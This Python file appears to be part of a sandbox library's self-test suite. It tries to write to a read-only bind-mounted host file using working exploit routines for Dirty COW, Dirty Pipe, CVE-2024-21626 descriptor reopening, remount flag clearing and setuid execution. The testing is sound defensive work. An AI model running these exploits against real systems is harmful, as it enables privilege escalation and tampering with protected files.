"""A file of the host that is bound read-only, though its mode lets everybody write: the mount is all that protects it.

The runs of this group have one more mount than the user's jail: ``scene["bound"]``, a directory made for them.
"""

from __future__ import annotations

import contextlib
import ctypes
import mmap
import os
import threading

from pyjail._selftest.attacks.toolkit import REFUSED, Scene, act, attack, call, opens, quietly

O_RDONLY = os.O_RDONLY | os.O_CLOEXEC


@attack("writes to it, truncates, renames, removes it", "a read-only mount that is none", bound=True)
def write(scene: Scene) -> None:
    path, beside = scene["bound"] + "/file", scene["bound"] + "/" + scene["name"]
    fd = act("open to append", os.open, path, os.O_WRONLY | os.O_APPEND)
    if fd is not None:
        os.write(fd, b"changed")
    act("truncate", os.truncate, path, 0)
    act("chmod", os.chmod, path, 0o777)
    act("rename", os.rename, path, beside)
    act("unlink", os.unlink, path)
    act("create", os.open, beside, os.O_CREAT | os.O_WRONLY, 0o666)
    act("mkdir", os.mkdir, beside)
    act("link", os.link, path, beside)
    act("utime", os.utime, path)
    act("setxattr", os.setxattr, path, b"user.pyjail", b"x")


@attack("opens it for reading and then gets to write by its descriptor", "CVE-2024-21626: descriptors as doors",
        bound=True)  # fmt: skip
def descriptor(scene: Scene) -> None:
    fd = os.open(scene["bound"] + "/file", O_RDONLY)
    opens([f"/proc/self/fd/{fd}", f"/dev/fd/{fd}", f"/proc/thread-self/fd/{fd}"], os.O_RDWR, "open again")
    act("write", os.write, fd, b"changed")
    act("ftruncate", os.ftruncate, fd, 0)
    act("fchmod", os.fchmod, fd, 0o777)
    act("map to write", mmap.mmap, fd, 4, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
    act("fallocate", os.posix_fallocate, fd, 0, 1 << 16)


@attack(
    "makes the mount writable again",
    "CVE-2014-5206: read-only flags that a remount cleared",
    errnos=REFUSED,
    bound=True,
)
def remount(scene: Scene) -> None:
    target = scene["bound"].encode() + b"\0"
    call("mount", None, target, None, 4096 | 32, None, label="mount(MS_REMOUNT|MS_BIND)")
    clear = (ctypes.c_uint64 * 4)(0, 1, 0, 0)  # struct mount_attr: attr_clr = MOUNT_ATTR_RDONLY
    call("mount_setattr", -100, target, 0, clear, 32)
    call("umount2", target, 2)
    with contextlib.suppress(OSError):
        fd = os.open(scene["bound"] + "/file", os.O_WRONLY | os.O_APPEND)
        os.write(fd, b"changed")


@attack("races private copies of its pages against their removal", "CVE-2016-5195: Dirty COW", bound=True)
def dirty_cow(scene: Scene) -> None:
    fd = os.open(scene["bound"] + "/file", O_RDONLY)
    private = mmap.mmap(fd, 4096, mmap.MAP_PRIVATE, mmap.PROT_READ)
    memory = -1
    with contextlib.suppress(OSError):  # one's own memory may be opened; the page is the kernel's to protect
        memory = os.open("/proc/self/mem", os.O_RDWR)
    where = 0
    with contextlib.suppress(OSError), open("/proc/self/maps") as maps:
        where = next((int(line.split("-")[0], 16) for line in maps if line.endswith("/file\n")), 0)
    stop = threading.Event()

    def forget() -> None:
        while not stop.is_set():
            private.madvise(mmap.MADV_DONTNEED)

    thread = threading.Thread(target=forget)
    thread.start()
    for _ in range(2000 if memory >= 0 and where else 0):
        with contextlib.suppress(OSError):
            os.pwrite(memory, b"changed", where)
    stop.set()
    thread.join()


@attack("writes into its cached pages through a pipe", "CVE-2022-0847: Dirty Pipe", bound=True)
def dirty_pipe(scene: Scene) -> None:
    fd = os.open(scene["bound"] + "/file", O_RDONLY)
    out, into = os.pipe()
    size = 65536
    os.write(into, b"x" * size)  # every slot of the pipe gets PIPE_BUF_FLAG_CAN_MERGE ...
    os.read(out, size)
    offset = ctypes.c_int64(0)
    if quietly("splice", fd, ctypes.byref(offset), into, None, 1, 0) == 1:  # ... and one of them now is the file's page
        os.write(into, b"changed")


@attack("runs a setuid-root program", "setuid files of the host", needs=("root", "uid"), bound=True, exits_as_user=True)
def setuid_root(scene: Scene) -> None:
    act("execve", os.execv, scene["bound"] + "/setuid", ["setuid"])
